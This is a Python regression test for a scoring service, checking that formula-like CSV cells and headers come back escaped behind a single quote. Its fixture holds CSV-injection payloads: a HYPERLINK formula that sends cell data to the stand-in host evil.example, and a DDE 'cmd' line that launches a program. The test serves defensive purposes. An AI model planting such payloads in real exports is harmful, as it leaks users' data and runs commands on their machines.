"""Issue 22, item 12: a scored CSV never hands a spreadsheet a formula. Cells and headers that
start with =, +, -, @, tab or carriage return come back behind a single quote (OWASP's CSV
injection rule); numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

from tests.service.helpers import wait_for_job
from tests.service.table_helpers import small_network, submit, upload

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def hostile_csv(rows: int = 60) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["=cmd|' /C calc'!A0", "size", "@note", "kind"])
    for i in range(rows):
        writer.writerow([("+x", "-y", "ok")[i % 3], -1.5 * i, "@SUM(1+1)*cmd", (LINK, "-2", "plain")[i % 3]])
    return out.getvalue().encode()


def test_scored_csv_escapes_formula_cells_and_headers_and_keeps_numbers(api):
    """Before: the class `=HYPERLINK(...)`, the header `=cmd|...` and the cell `@SUM(...)`
    came back as written, live formulas in a spreadsheet."""
    content = hostile_csv()
    dataset = upload(api, content, target="kind")
    job = submit(api, dataset["id"], small_network(3))
    assert job.status_code == 202, job.text
    model_id = wait_for_job(api, job.json()["id"])["model_id"]
    answer = api.post(f"/v1/models/{model_id}/predict", content=content,
                      headers={"content-type": "text/csv"})
    assert answer.status_code == 200, answer.text
    reader = csv.reader(io.StringIO(answer.text))
    header, *rows = list(reader)
    assert header[0] == "'=cmd|' /C calc'!A0" and header[2] == "'@note", header
    assert header[1] == "size" and "kind_predicted" in header, header
    assert f"p_{LINK}" in header, header   # starts with p_: no formula
    for i, row in enumerate(rows):
        cells = dict(zip(header, row))
        assert cells["'=cmd|' /C calc'!A0"] == ("'+x", "'-y", "ok")[i % 3]
        assert cells["'@note"] == "'@SUM(1+1)*cmd"
        assert float(cells["size"]) == -1.5 * i        # negative numbers stay numbers
        assert cells["kind"] in (f"'{LINK}", "-2", "plain")   # "-2" is a plain number
        assert cells["kind_predicted"] in (f"'{LINK}", "-2", "plain")
    for row in rows:  # no cell of the answer starts a formula unless it is a plain number
        for cell in row:
            assert not cell[:1] in ("=", "+", "@", "\t", "\r") or cell == "", cell
